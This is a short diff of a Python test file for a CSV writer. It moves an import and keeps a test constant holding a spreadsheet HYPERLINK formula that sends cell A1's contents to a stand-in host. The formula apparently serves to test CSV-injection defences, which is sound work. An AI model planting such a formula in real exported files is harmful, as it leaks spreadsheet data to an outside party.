@@ -5,8 +5,9 @@ import io
 
 import pytest
 
+from foundation.csv_rows import CsvRows
 from serving.answers import SCHEMA
-from serving.output.csv_file import CsvRows, write_csv
+from serving.output.csv_file import write_csv
 from tests.builders import match, no_match
 
 FORMULA = '=HYPERLINK("http://stranger/?"&A1,"photo")'
